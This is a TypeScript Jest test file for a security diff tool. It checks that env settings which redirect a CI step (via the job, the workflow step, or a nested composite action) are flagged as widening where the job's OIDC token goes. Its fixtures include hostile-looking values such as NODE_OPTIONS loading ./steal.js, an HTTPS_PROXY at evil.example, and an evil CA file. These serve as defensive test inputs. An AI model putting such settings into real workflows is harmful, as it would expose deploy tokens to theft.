/**
 * Session 32 (w-rfaces): an `env:` that redirects a stepwarden step (`NODE_OPTIONS`, proxies, CA
 * files, the runner's variables: shared/workflow/env-keys.ts) is a change of where the job's OIDC
 * token goes (session 9), and the diff showed it for a workflow step. A stepwarden step inside a local
 * composite action inherits the job's `env:` and the `env:` of the workflow step running the action,
 * and has its own in the action file: the pull request adding `NODE_OPTIONS: --require ./steal.js` at
 * any of the three said "No access changes" (all three failed at f6cb0ee). Now the composite step's
 * sink carries those names (composite.ts `via.redirectingEnv`).
 */
import { describe, expect, it } from '@jest/globals';
import { diff, type Change } from '../hostile-faces-s31/diff-trees.js';

const SW = 'stepwarden/stepwarden/actions/run@0123456789abcdef0123456789abcdef01234567';
const action = (env = '') =>
  `name: d\ndescription: x\nruns:\n  using: composite\n  steps:\n    - uses: ${SW}\n${env}      with:\n        audience: https://deploy.example\n        run: make deploy\n        broker-url: https://broker.corp.example\n`;
const workflow = (jobEnv = '', stepEnv = '') =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: { contents: read, id-token: write }\n${jobEnv}    steps:\n      - id: d\n        uses: ./actions/deploy\n${stepEnv}`;
const ACTION = 'actions/deploy/action.yml';
const widened = (changes: Change[]) =>
  changes.filter((c) => c.subject.startsWith('OIDC token') && c.effect === 'widened').map((c) => c.after);
const f = { [ACTION]: action() };

describe('diff: a redirecting env: on a stepwarden step inside a local composite action (s32)', () => {
  it("the job's env:", async () => {
    expect(
      widened(
        await diff(workflow(), workflow('    env:\n      NODE_OPTIONS: --require ./steal.js\n'), {
          base: f,
          head: f,
        }),
      ),
    ).toEqual([expect.stringContaining('env: NODE_OPTIONS')]);
  });

  it('the env: of the workflow step running the action', async () => {
    expect(
      widened(
        await diff(
          workflow(),
          workflow('', '        env:\n          HTTPS_PROXY: http://evil.example:3128\n'),
          {
            base: f,
            head: f,
          },
        ),
      ),
    ).toEqual([expect.stringContaining('env: HTTPS_PROXY')]);
  });

  it("the composite step's own env:, one level down in a nested action too", async () => {
    const text = workflow();
    expect(
      widened(
        await diff(text, text, {
          base: f,
          head: { [ACTION]: action('      env:\n        NODE_EXTRA_CA_CERTS: ./evil-ca.pem\n') },
        }),
      ),
    ).toEqual([expect.stringContaining('env: NODE_EXTRA_CA_CERTS')]);
    const outer = (env: string) =>
      `name: o\ndescription: x\nruns:\n  using: composite\n  steps:\n    - uses: ./actions/deploy\n${env}`;
    expect(
      widened(
        await diff(
          text.replace('./actions/deploy', './actions/outer'),
          text.replace('./actions/deploy', './actions/outer'),
          {
            base: { ...f, 'actions/outer/action.yml': outer('') },
            head: {
              ...f,
              'actions/outer/action.yml': outer('      env:\n        NODE_OPTIONS: --require ./steal.js\n'),
            },
          },
        ),
      ),
    ).toEqual([expect.stringContaining('env: NODE_OPTIONS')]);
  });

  it('negative: an env: that redirects nothing', async () => {
    expect(await diff(workflow(), workflow('    env:\n      FOO: bar\n'), { base: f, head: f })).toEqual([]);
  });
});
